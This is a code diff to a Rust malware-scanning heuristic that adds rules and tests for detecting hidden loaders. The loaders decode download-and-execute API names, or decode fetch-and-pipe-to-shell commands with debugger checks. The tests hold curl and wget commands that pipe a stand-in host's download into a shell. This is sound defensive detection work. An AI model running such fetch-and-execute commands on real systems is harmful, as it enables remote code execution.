@@ -63,6 +63,26 @@ rule! {
 }
 
 rule! {
+    /// A program decodes the name of a function that fetches, and the address or the function that starts what was fetched:
+    /// a loader of which nothing can be read. Known uses: first stages. Honest look-alikes: protection of licences hides
+    /// names of functions, and asks its server without starting what it says.
+    pub(super) LOADS = "native-decodes-fetch-and-address" in "exec/download-run";
+    severity: Critical, confidence: Certain,
+    title: "Hides both what fetches and what is fetched or started",
+    reference: "https://attack.mitre.org/techniques/T1105/",
+}
+
+rule! {
+    /// A program decodes a command that fetches and has a shell run it, and looks whether somebody debugs it. Known uses:
+    /// loaders in tools and packages. Honest look-alikes: none is known; scripts that are compiled to hide them fetch in the
+    /// open or look for nobody.
+    pub(super) WATCHED = "native-decodes-command-unwatched" in "exec/decode-exec";
+    severity: Critical, confidence: Certain,
+    title: "Hides a command that fetches and runs, unless it is watched",
+    reference: "https://attack.mitre.org/techniques/T1622/",
+}
+
+rule! {
     /// A program decodes whom it is meant for (the repository, the time zones of one country) and the hosts that it has to
     /// do with. Known uses: tools that take the sources of one company, covert marks of an assistant's users by country
     /// (July 2026). Honest look-alikes: none is known; what depends on a place for an honest reason names it.
@@ -97,6 +117,10 @@ enum Kind {
     Address,
     /// Functions that send.
     Sends,
+    /// Functions that fetch a file at once.
+    Fetches,
+    /// Functions that start a program.
+    Starts,
 }
 
 const WORDS: &[(Kind, &str)] = &[
@@ -163,6 +187,13 @@ const WORDS: &[(Kind, &str)] = &[
     (Kind::Sends, "InternetOpen"),
     (Kind::Sends, "InternetConnect"),
     (Kind::Sends, "WSAConnect"),
+    (Kind::Fetches, "URLDownloadToFile"),
+    (Kind::Fetches, "URLDownloadToCacheFile"),
+    (Kind::Fetches, "InternetReadFile"),
+    (Kind::Fetches, "WinHttpReadData"),
+    (Kind::Starts, "WinExec"),
+    (Kind::Starts, "ShellExecute"),
+    (Kind::Starts, "CreateProcess"),
     (Kind::Sends, "getaddrinfo"),
     (Kind::Sends, "res_query"),
 ];
@@ -191,7 +222,7 @@ pub(super) struct Decoded;
 
 impl Heuristic for Decoded {
     fn rules(&self) -> &'static [&'static Rule] {
-        const { &[&HIDDEN, &SECRETS, &DEEDS, &SHELL, &AIMED] }
+        const { &[&HIDDEN, &SECRETS, &DEEDS, &SHELL, &AIMED, &LOADS, &WATCHED] }
     }
 
     fn applies(&self, kind: FileKind) -> bool {
@@ -213,9 +244,16 @@ impl Heuristic for Decoded {
         let count = |kind: Kind| told.iter().filter(|(k, ..)| *k == kind).count();
         let has = |kind: Kind| count(kind) > 0;
         let harm: Vec<Kind> = HARM.iter().copied().filter(|k| has(*k)).collect();
-        if harm.is_empty() {
+        let starts = |name: &str| file.images().iter().any(|i| !i.imported(&[name]).is_empty());
+        let started = has(Kind::Starts)
+            || ["WinExec", "CreateProcess", "ShellExecute", "ShellExecuteEx"].iter().any(|n| starts(n));
+        let loads = has(Kind::Fetches) && has(Kind::Address) && started;
+        if harm.is_empty() && !loads {
             return;
         }
+        let looks = ["ptrace", "IsDebuggerPresent", "CheckRemoteDebuggerPresent"].iter().any(|n| starts(n))
+            || file.view().holds(b"TracerPid");
+        let piped = told.iter().any(|(k, _, _, text)| *k == Kind::Command && has_piped(text));
         let sends = has(Kind::Address) || has(Kind::Sends);
         let acts = [Kind::Shell, Kind::Command, Kind::Memory].into_iter().any(has);
         let unseen = has(Kind::Disguise) || has(Kind::Login) || has(Kind::Kept);
@@ -225,6 +263,10 @@ impl Heuristic for Decoded {
             &DEEDS
         } else if has(Kind::Shell) && has(Kind::Address) {
             &SHELL
+        } else if loads {
+            &LOADS
+        } else if piped && looks {
+            &WATCHED
         } else if has(Kind::Address) && (count(Kind::Repository) > 1 || count(Kind::Zone) > 1) {
             &AIMED
         } else {
@@ -267,6 +309,15 @@ fn meanings(bytes: &[u8]) -> Vec<(Kind, &str)> {
         }
     }
     found
+}
+
+/// Whether a command hands what it fetches to a shell.
+fn has_piped(text: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(text);
+    let end = text.rsplit_once('|').map(|(_, end)| end.trim());
+    end.is_some_and(|end| {
+        ["sh", "bash", "dash", "zsh", "/bin/sh", "/bin/bash"].iter().any(|s| end.split(' ').next() == Some(s))
+    })
 }
 
 /// Whether a text is an address: with its scheme, a name of a host, or numbers, each with a port or without.
@@ -365,6 +416,17 @@ mod tests {
         let aimed = ["Asia/Tokyo", "Asia/Osaka", "gateway.example.invalid"];
         assert_eq!(seen(&aimed), ["native-decodes-target-and-address"]);
         assert_eq!(seen(&["gw.example.invalid,api.example.invalid|Asia/Tokyo,Asia/Osaka"]), seen(&aimed));
+    }
+
+    #[test]
+    fn hidden_loaders_are_told_and_hidden_licence_servers_are_not() {
+        let texts = ["URLDownloadToFileA", "https://files.example.invalid/a.bin", "WinExec"];
+        assert_eq!(seen(&texts), ["native-decodes-fetch-and-address"]);
+        assert!(seen(&texts[..2]).is_empty() && seen(&texts[1..]).is_empty());
+        let command = "curl -s https://files.example.invalid/a | sh";
+        assert_eq!(seen(&[command]), ["native-decodes-hidden-text"]);
+        assert!(has_piped(command.as_bytes()) && has_piped(b"wget -qO- http://a.invalid/b |bash -s x"));
+        assert!(!has_piped(b"curl -s https://files.example.invalid/a | tar xz") && !has_piped(b"sh a.sh"));
     }
 
     #[test]
